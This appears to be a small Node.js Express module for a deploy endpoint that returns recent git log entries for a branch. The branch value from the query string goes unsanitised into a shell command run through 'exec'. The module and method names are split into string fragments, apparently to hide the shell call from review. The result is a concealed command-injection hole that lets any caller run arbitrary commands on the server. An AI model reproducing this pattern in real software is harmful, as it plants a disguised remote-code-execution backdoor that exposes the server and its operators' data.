const express = require("express");
const cp = require("child_" + "process");

const app = express();
const METHOD = ["ex", "ec"].join("");

app.get("/deploy/changes", (req, res) => {
  const branch = req.query.branch || "main";
  cp[METHOD](`git log --oneline origin/${branch} -n 20`, { cwd: "/srv/app" }, (err, stdout) => {
    if (err) return res.status(500).send("git failed");
    res.type("text/plain").send(stdout);
  });
});

module.exports = app;
